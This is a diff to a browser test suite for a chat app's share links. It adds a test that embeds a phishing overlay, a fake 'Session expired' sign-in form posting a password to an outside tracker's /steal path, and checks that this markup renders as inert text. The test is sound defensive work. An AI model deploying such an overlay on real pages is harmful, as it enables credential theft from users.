@@ -86,11 +86,13 @@ GIF = base64.b64decode(
 
 
 class HtmlOllama(FakeOllama):
-    """FakeOllama plus a model, fake-html, that replies with `reply` in small pieces."""
+    """FakeOllama plus models (fake-html, or `names`) that reply with `reply` in small
+    pieces."""
 
-    def __init__(self, reply: str) -> None:
+    def __init__(self, reply: str, names: tuple[str, ...] = ("fake-html",)) -> None:
         super().__init__()
         self.reply = reply
+        self.names = names
 
     def _handler_class(self) -> Any:
         base: Any = super()._handler_class()
@@ -104,14 +106,14 @@ class HtmlOllama(FakeOllama):
                 details = ModelDetails(family="fake")
                 models = [
                     ListResponse.Model(model=m, size=ByteSize(1000), details=details)
-                    for m in ["fake-html", *MODELS]
+                    for m in [*fake.names, *MODELS]
                 ]
                 self._json(200, ListResponse(models=models))
 
             def do_POST(self) -> None:
                 length = int(self.headers.get("content-length") or 0)
                 body = json.loads(self.rfile.read(length) or b"{}")
-                if self.path != "/api/chat" or body.get("model") != "fake-html":
+                if self.path != "/api/chat" or body.get("model") not in fake.names:
                     self._json(404, {"error": "not found"})
                     return
                 if not body.get("messages"):  # the pre-warm's load request
@@ -247,3 +249,109 @@ def test_tampered_and_oversized_share_links_show_a_message(
         expect(page.locator("#model input")).to_have_value(MODEL_LABEL)
     finally:
         page.close()
+
+
+# A phishing page in a share link: a full-window fixed overlay saying the session expired,
+# with a password box and a button posting to another host (the tracker).
+def overlay_html(action: str) -> str:
+    return (
+        '<div id="evil-overlay" style="position:fixed;inset:0;z-index:99999;'
+        'background:#fff;font-size:32px">Session expired. Sign in again.'
+        f'<form id="evil-form" action="{action}/steal" method="post">'
+        '<input id="evil-password" type="password" name="pw" autofocus>'
+        '<button id="evil-button" type="submit">Sign in</button></form>'
+        "<style>body{display:none}</style>"
+        '<a id="evil-fixed-link" style="position:fixed;top:0;left:0;width:100vw;height:100vh"'
+        ' href="#">Session expired</a></div>'
+    )
+
+
+# Markup that content can never bring into the page, and the page areas content reaches.
+# (Gradio's own copy buttons in a message are `button.icon-button`.)
+FORM_LIKE = (
+    "form, input, button:not(.icon-button), textarea, select, style:not(svg style), iframe, "
+    "object, embed, #evil-overlay, #evil-form, #evil-password, #evil-button"
+)
+CONTENT_AREAS = (
+    '#shared-columns [data-testid="bot"], #shared-columns [data-testid="user"], '
+    "#shared-summary, #shared-head-1, #shared-head-2"
+)
+
+
+def crafted_share(action: str) -> str:
+    """A chat and a comparison link whose every text field is hostile, signed with the
+    app's secret as /share_chat would sign whatever a client sends."""
+    from ui.share import (
+        ReplyStats,
+        SharedColumn,
+        SharedConversation,
+        SharedMessage,
+        ShareParameters,
+        encode_share,
+    )
+
+    hostile = HOSTILE + overlay_html(action)
+    messages = [
+        SharedMessage(role="user", content="hello " + hostile),
+        SharedMessage(
+            role="assistant",
+            content="reply " + hostile,
+            stats=ReplyStats(ttft_s=0.1, total_s=1, tokens_per_s=10, eval_count=10),
+        ),
+    ]
+    return encode_share(
+        SharedConversation(
+            kind="compare",
+            columns=[
+                SharedColumn(model=name, display_name=name, messages=messages)
+                for name in (PAYLOADS[0] + "<b>m1</b>", overlay_html(action)[:190])
+            ],
+            parameters=ShareParameters(
+                system_prompt="sys " + hostile, temperature=0.5, top_p=0.9, max_tokens=64
+            ),
+        ),
+        SHARE_SECRET.encode(),
+    )
+
+
+def test_a_crafted_overlay_share_link_renders_inert(
+    app_url: str, browser: Browser, tracker: Tracker
+) -> None:
+    page = new_page(browser)
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url))
+    try:
+        page.goto(f"{app_url}/?share={crafted_share(tracker.url)}")
+        columns = page.locator("#shared-columns")
+        expect(columns).to_contain_text("Session expired", timeout=30_000)
+        expect(page.locator("#shared-summary")).to_contain_text("supplied by whoever shared")
+        # The overlay's markup is shown as text, not laid out as elements.
+        expect(page.locator("#shared-chat-1")).to_contain_text("<form")
+        found = page.evaluate(
+            "([areas, sel]) => Array.from(document.querySelectorAll(areas)).flatMap("
+            "  root => Array.from(root.querySelectorAll(sel)).map(e => e.outerHTML.slice(0, 120)))",
+            [CONTENT_AREAS, FORM_LIKE],
+        )
+        assert found == [], f"form-like markup from content in the page: {found}"
+        fixed = page.evaluate(
+            "(areas) => Array.from(document.querySelectorAll(areas)).flatMap(root =>"
+            "  Array.from(root.querySelectorAll('*')).filter(e =>"
+            "    getComputedStyle(e).position === 'fixed').map(e => e.outerHTML.slice(0, 120)))",
+            CONTENT_AREAS,
+        )
+        assert fixed == [], f"fixed-position elements from content: {fixed}"
+        assert_nothing_ran(page, ".gradio-container")
+        # A user typing a password and pressing Enter / clicking the page's middle sends
+        # nothing anywhere else.
+        page.mouse.click(640, 450)
+        page.keyboard.type("hunter2")
+        page.keyboard.press("Enter")
+        # The app's own page still works (the body was not hidden by content CSS).
+        expect(page.locator("#shared-continue")).to_be_visible()
+        # Wait for an observable event (a request to this app) before the negative check.
+        page.evaluate("() => fetch('/config')")
+        page.wait_for_load_state("networkidle")
+    finally:
+        page.close()
+    elsewhere = [u for u in requests if not u.startswith(app_url)]
+    assert elsewhere == [] and tracker.paths == [], (elsewhere, tracker.paths)
